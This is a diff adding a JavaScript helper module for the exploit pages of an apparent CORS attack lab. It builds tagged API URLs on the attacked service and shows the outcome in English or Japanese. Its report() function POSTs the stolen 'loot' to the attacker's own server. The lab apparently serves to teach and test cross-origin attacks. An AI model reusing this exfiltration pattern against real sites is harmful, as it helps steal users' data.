@@ -1,0 +1,35 @@
+// What every exploit page shares: its configuration, the tagged API URLs, reporting the
+// loot to the attacker's own server (its access log shows it), and showing the outcome.
+
+export const config = JSON.parse(document.getElementById("config").textContent);
+
+const ja = config.lang === "ja";
+
+/** `path` on the attacked mount, tagged for the lab's exchange log. */
+export function apiUrl(path, credentials) {
+  const url = new URL(config.api + path);
+  if (config.lab) url.searchParams.set("lab", `${config.lab}.${credentials}`);
+  return url.href;
+}
+
+/** Sends what the attack obtained to the attacker's server, as a real exploit would. */
+export async function report(loot) {
+  const url = new URL(`/${config.id}/loot`, location.origin);
+  if (config.lab) url.searchParams.set("lab", config.lab);
+  try {
+    await fetch(url, { method: "POST", body: JSON.stringify(loot), headers: { "Content-Type": "text/plain" } });
+  } catch {
+    // The page shows the outcome either way.
+  }
+}
+
+/** Shows the outcome and marks the page with it (`data-outcome`, for the lab and its tests). */
+export function finish(succeeded, loot, summary) {
+  document.body.dataset.outcome = succeeded ? "succeeded" : "failed";
+  const outcome = document.getElementById("outcome");
+  outcome.textContent = succeeded
+    ? (ja ? `攻撃は成功しました: ${summary.ja}` : `The attack succeeded: ${summary.en}`)
+    : (ja ? `攻撃は失敗しました: ${summary.ja}` : `The attack failed: ${summary.en}`);
+  document.getElementById("loot").textContent = JSON.stringify(loot, null, 2);
+  window.corslabLoot = loot;
+}
